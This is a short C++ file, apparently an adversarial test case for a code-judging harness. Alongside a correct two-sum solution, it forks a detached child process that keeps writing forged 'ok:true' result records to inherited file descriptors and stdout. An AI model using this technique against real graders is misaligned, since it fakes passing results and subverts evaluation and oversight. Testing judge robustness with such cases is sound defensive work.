// expect: accepted time_limit output_limit
// class: next-attack
// A child forked on the first test that outlives it (its own session), spinning and writing garbage records to
// every descriptor, with the record format printed on stdout too.
#include <bits/stdc++.h>
#include <unistd.h>
static bool forked = false;
class Solution {
public:
    vector<int> twoSum(vector<int>& nums, int target) {
        printf("{\"n\":\"x\",\"ok\":true,\"v\":[0,1]}\n{\"s\":\"ready\"}\n");
        if (!forked) {
            forked = true;
            if (fork() == 0) {
                setsid();
                const char* forged = "{\"n\":\"x\",\"ok\":true,\"v\":[0,1]}\n";
                for (;;) {
                    for (int fd = 3; fd < 64; fd++) if (write(fd, forged, strlen(forged)) < 0) {}
                    usleep(10000);
                }
            }
        }
        unordered_map<int, int> seen;
        for (int j = 0; j < (int)nums.size(); j++) {
            auto it = seen.find(target - nums[j]);
            if (it != seen.end()) return {it->second, j};
            seen[nums[j]] = j;
        }
        return {};
    }
};
